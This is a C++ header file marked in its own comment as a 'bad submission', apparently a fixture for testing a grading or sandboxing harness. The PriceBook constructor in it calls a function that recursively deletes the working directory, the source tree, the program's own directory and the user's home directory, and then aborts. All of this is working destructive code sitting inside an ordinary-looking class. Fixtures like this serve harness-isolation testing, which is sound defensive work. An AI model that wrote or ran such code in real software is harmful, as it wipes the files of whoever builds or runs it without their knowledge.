// Bad submission: deletes every file it can reach (its working directory, the source tree it was
// compiled from, the directory of its own program, the home directory), then aborts.
#pragma once

#include <cstddef>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <system_error>

#include "prices.hpp"

namespace racelab::event_loop::using_rwlock {

inline void delete_what_can_be_reached() {
  namespace fs = std::filesystem;
  std::error_code ignored;
  const fs::path source = fs::path(__FILE__).parent_path().parent_path().parent_path();
  for (const fs::path& victim :
       {fs::current_path(ignored), source, fs::read_symlink("/proc/self/exe", ignored).parent_path(),
        fs::path(std::getenv("HOME") != nullptr ? std::getenv("HOME") : "")}) {
    if (!victim.empty()) fs::remove_all(victim, ignored);
  }
}

class PriceBook {
 public:
  explicit PriceBook(PostToLoop /*unused*/) : table_(std::make_unique<PriceTable>(0)) {
    delete_what_can_be_reached();
    std::abort();
  }

  template <class MakeTable>
  void refresh(MakeTable /*make_table*/) {}

  Quote quote(std::size_t item) { return table_->quote(item); }

 private:
  std::unique_ptr<PriceTable> table_;
};

}  // namespace racelab::event_loop::using_rwlock
